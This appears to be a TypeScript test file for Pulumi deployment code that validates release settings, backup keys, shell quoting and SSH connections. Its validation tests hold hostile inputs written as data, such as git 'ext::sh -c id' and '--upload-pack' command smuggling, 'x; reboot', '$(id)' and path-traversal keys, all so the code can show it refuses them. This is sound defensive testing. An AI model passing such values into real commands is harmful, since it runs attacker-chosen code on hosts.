        ["https://ci:ghp_token1@github.com/nourish-link/dusangire.git", "ghp_token1"],
        ["https://ghp_token2@github.com/nourish-link/dusangire.git", "ghp_token2"],
        ["https://x-access-token:ghs_token3@github.com/nourish-link/dusangire.git", "ghs_token3"],
        ["https://github.com/nourish-link/dusangire.git?access_token=token4", "token4"],
        ["ssh://deploy:token5@github.com/nourish-link/dusangire.git", "token5"],
        ["ssh://token6@github.com/nourish-link/dusangire.git", "token6"],
        ["git:token7@github.com:nourish-link/dusangire.git", "token7"],
      ]) refused({ url }, credentials, secret);
      refused({ url: "--upload-pack=touch /tmp/x" }, /^nourish-link:release\.artifact\.url must be a git URL/);
      refused({ url: "ext::sh -c id" }, /^nourish-link:release\.artifact\.url must be a git URL/);
      for (const c of ["main", "4c9d381", "--output=/tmp/x", commit.toUpperCase()]) refused({ commit: c }, /^nourish-link:release\.artifact\.commit must be the full commit SHA/);
      refused({ commit: undefined }, /^nourish-link:release\.artifact\.commit is required$/);
      for (const t of ["--upload-pack=x", "-v1", "v1..2", "v1 (rc)", "v1.lock"]) refused({ tag: t }, /^nourish-link:release\.artifact\.tag must be a plain tag name/);
      refused({ ref: "v1.4.2" }, /^nourish-link:release\.artifact\.ref is not a known setting$/);
    });

    it("public key without deploySshKey is fine: the hosts authorize it ahead of the first release", async () => {
      const r = await runStack("staging", { set: { release: { ssh: { publicKey: keys.publicKey } } } });
      assert.ok(!r.resources.some((x) => x.type.startsWith("command:")));
      assert.ok(hostFiles(r).some((f) => f.path === "user-data.yaml" && f.content.includes(keys.publicKey)));
    });
  });

  describe("pure parts", () => {
    it("reads the backup key from the last line nourishctl backup prints, and refuses anything else", () => {
      assert.strictEqual(backupKeyFrom("nourishctl: backup: done: …\ndumps/daily/db_backup_20261101_020000.dump\n"), "dumps/daily/db_backup_20261101_020000.dump");
      assert.throws(() => backupKeyFrom("nourishctl: backup: done: db_backup_x.dump (12 bytes)\n"), /must print the backup's key as its last line/);
      assert.throws(() => backupKeyFrom(""), /must print the backup's key/);
      assert.throws(() => backupKeyFrom("x; reboot"), /must print the backup's key/);
      // Only the key shape backup writes, anchored at both ends.
      for (const bad of ["x/dumps/daily/db_backup_20261101_020000.dump", "dumps/daily/../daily/db_backup_20261101_020000.dump",
        "dumps/daily/evil_db_backup_20261101_020000.dump", "dumps/other/db_backup_20261101_020000.dump"]) {
        assert.throws(() => backupKeyFrom(`done\n${bad}\n`), /must print the backup's key/, bad);
      }
      assert.strictEqual(backupKeyFrom("dumps/monthly/db_backup_20261101_020000.sqlite3"), "dumps/monthly/db_backup_20261101_020000.sqlite3");
    });

    it("quotes shell words", () => {
      assert.strictEqual(shq("s3://b/k.tar.gz"), "s3://b/k.tar.gz");
      assert.strictEqual(shq("it's $HOME"), `'it'\\''s $HOME'`);
      assert.strictEqual(run("bash", ["-c", `printf %s ${shq("a'b $(id) \"c\"")}`]).stdout, "a'b $(id) \"c\"");
    });

    it("plans one db and N app hosts; rejects a plan without either", () => {
      const spec = { prefix: "r", version: "1.0.0", artifact: { type: "git" as const, url: "https://x/y.git", commit: "0".repeat(40) }, sshUser: "admin" };
      const steps = releasePlan({ ...spec, hosts: [{ name: "db", role: "db" }, ...[0, 1, 2].map((i) => ({ name: `app-${i}`, role: "app" as const }))] });
      assert.deepStrictEqual(steps.filter((s) => s.kind === "switch").map((s) => s.dependsOn), [
        ["r-collectstatic-app-0", "r-collectstatic-app-1", "r-collectstatic-app-2"], ["r-switch-app-0"], ["r-switch-app-1"],
      ]);
      assert.throws(() => releasePlan({ ...spec, hosts: [{ name: "app-0", role: "app" }] }), /exactly one database host/);
      assert.throws(() => releasePlan({ ...spec, hosts: [{ name: "db", role: "db" }] }), /at least one app host/);
    });

    it("tells an unusable private key apart without quoting it", () => {
      assert.ok("publicBlob" in privateKeyInfo(keys.privateKey));
      assert.ok("publicBlob" in privateKeyInfo(opensshContainer(keys.publicKey)));
      const enc = generateKeyPairSync("ed25519").privateKey.export({ format: "pem", type: "pkcs8", cipher: "aes-256-cbc", passphrase: "pw" }).toString();
      assert.deepStrictEqual(privateKeyInfo(enc), { problem: "must be an unencrypted private key: the command provider is given no passphrase (keep the key itself secret: --secret)" });
    });
  });

  // --- runs with a custom program ----------------------------------------------------------------

  function ofTypeCopy(r: ProgramRun) {
    return releaseResources(r).filter((x) => x.type === COPY);
  }

  /** A copy of scripts/host in a temp dir (named host, as the real one). */
  function copyTooling(): string {
    const dir = path.join(fs.mkdtempSync(path.join(os.tmpdir(), "nl-tooling-")), "host");
    fs.cpSync(TOOLING_DIR, dir, { recursive: true });
    return dir;
  }

  /** The Release alone, on one db and one app instance, with the tooling from `dir`. */
  function runRelease(dir: string): Promise<ProgramRun> {
    const { config, secretKeys } = stackConfig("staging", { set: enable(), secrets: { deploySshKey: keys.privateKey } });
    return runProgram({
      stack: "staging", config, secretKeys, program: async () => {
        const c = loadConfig();
        const instance = (name: string) => new aws.ec2.Instance(name, { ami: "ami-0123456789abcdef0", instanceType: "t3.small" });
        const role = new aws.iam.Role("app-role", { assumeRolePolicy: "{}" });
        new Release("release", { config: c, privateKey: c.secrets.deploySshKey!, db: { instance: instance("db") }, app: [{ instance: instance("app") }], appRole: role, toolingDir: dir });
      },
    });
  }

  async function runGitStack(k: { privateKey: string; publicKey: string }): Promise<ProgramRun> {
    const { config, secretKeys } = stackConfig("prod", { set: { network: { sshAccess: true } }, secrets: { deploySshKey: k.privateKey } });
    config["nourish-link:release"] = JSON.stringify({
      version: "1.4.1", artifact: { type: "git", url: "https://github.com/nourish-link/dusangire.git", commit: GIT_COMMIT, tag: "v1.4.1-rc" }, ssh: { publicKey: k.publicKey },
    });
    return runProgram({ stack: "prod", config, secretKeys });
  }

  interface Connection { host: string; user: string; port: number; privateKey: string; proxy?: Record<string, unknown> }

  /** Every release resource's connection as the provider would receive it, and whether it is secret. */
  async function connections(ssh: Record<string, unknown>) {
    const { config, secretKeys } = stackConfig("prod", { set: enable({ release: { ssh: { publicKey: keys.publicKey, ...ssh }, artifact: { bucket: BUCKET } } }), secrets: { deploySshKey: keys.privateKey } });
    const out = { connections: {} as Record<string, { value: Connection; secret: boolean }>, privateIps: {} as Record<string, string> };
    await runProgram({
      stack: "prod", config, secretKeys, program: async () => {
        const site = new NourishLink("nourish-link", { config: loadConfig() });
        const value = <T>(o: pulumi.Output<T>) => new Promise<T>((resolve) => pulumi.unsecret(o).apply((v) => { resolve(v); return v; }));
        for (const [name, res] of Object.entries(site.release!.resources)) {
          out.connections[name] = { value: await value(res.connection) as unknown as Connection, secret: await pulumi.isSecret(res.connection) };
        }
        out.privateIps["database-host"] = await value(site.database.instance!.privateIp);
        for (const [i, inst] of site.app.instances.entries()) out.privateIps[`app-${i}`] = await value(inst.privateIp);
      },
    });
    return out;
  }

  /** The additionalSecretOutputs each release resource registers with (the engine, not the mocks, applies them). */
  async function recordSecretOutputs(): Promise<Record<string, string[]>> {
    const { config, secretKeys } = stackConfig("prod", { set: enable(), secrets: { deploySshKey: keys.privateKey } });
    const seen: Record<string, string[]> = {};
    await runProgram({
      stack: "prod", config, secretKeys, program: async () => {
        const monitor = pulumi.runtime.getMonitor() as unknown as { registerResource(req: { getName(): string; getType(): string; getAdditionalsecretoutputsList(): string[] }, cb: unknown): unknown };
        const register = monitor.registerResource.bind(monitor);
        monitor.registerResource = (req, cb) => {
          if (req.getType().startsWith("command:")) seen[req.getName()] = req.getAdditionalsecretoutputsList();
          return register(req, cb);
        };
        new NourishLink("nourish-link", { config: loadConfig() });
      },
    });
    return seen;
  }
});
